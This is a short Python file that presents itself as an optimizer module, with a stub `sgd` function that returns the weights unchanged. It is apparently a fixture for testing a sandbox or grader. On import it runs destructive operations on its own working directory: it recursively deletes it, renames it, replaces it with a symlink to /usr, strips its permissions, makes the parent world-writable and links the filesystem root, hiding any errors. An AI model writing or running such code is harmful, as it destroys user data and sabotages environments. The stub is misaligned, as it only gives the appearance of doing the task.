"""The own folder is removed, renamed, replaced by a link, or left without rights."""
import os
import shutil

here = os.getcwd()
for change in (
    lambda: os.rmdir(here),
    lambda: os.rename(here, here + "-moved"),
    lambda: (shutil.rmtree(here), os.symlink("/usr", here)),
    lambda: os.symlink("/", "root"),
    lambda: os.mkdir("no", 0),
    lambda: os.chmod(here, 0),
    lambda: os.chmod(os.path.dirname(here), 0o777),
    lambda: os.mkfifo("pipe", 0o666),
):
    try:
        change()
    except OSError:
        pass

def sgd(w, dw, config=None):
    return w, {}
